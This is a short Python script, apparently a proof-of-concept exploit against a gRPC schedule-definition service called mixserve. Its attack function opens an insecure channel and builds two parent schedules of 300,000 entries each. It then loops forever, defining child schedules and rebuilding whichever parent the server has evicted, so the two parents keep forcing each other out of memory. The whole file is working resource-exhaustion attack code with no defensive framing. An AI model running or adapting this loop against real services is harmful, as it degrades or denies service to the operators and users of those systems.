"""Children of a schedule of 300,000 entries, in turn with those of a second one, so that each could evict the other."""

from itertools import count

import grpc

from mixserve_client.schema.schedule import ScheduleEntry, ScheduleRequest
from mixserve_client.wire import methods
from mixserve_client.wire.schedule import decode_schedule, encode_schedule_request

_MIXTURE, _ENTRIES, _AT_ONCE = "train", 300_000, 50_000


def attack(address: str) -> None:
    """Define children for ever, and their parents again when the server has forgotten them."""
    with grpc.insecure_channel(address) as channel:
        call = channel.unary_unary(methods.DEFINE_SCHEDULE)

        def define(parent: str, starts: range, weight: float) -> str:
            entries = tuple(ScheduleEntry(start, (weight,)) for start in starts)
            request = encode_schedule_request(ScheduleRequest(_MIXTURE, "", parent, entries))
            return decode_schedule(call(request, timeout=60)).id

        def define_parent(weight: float) -> str:
            parent = ""
            for at in range(0, _ENTRIES, _AT_ONCE):
                parent = define(parent, range(at, at + _AT_ONCE), weight)
            return parent

        parents = [define_parent(1.0 + number) for number in range(2)]
        for number in count():
            which = number % 2
            try:
                define(parents[which], range(_ENTRIES + number, _ENTRIES + number + 1), 1.0)
            except grpc.RpcError:
                parents[which] = define_parent(1.0 + which)
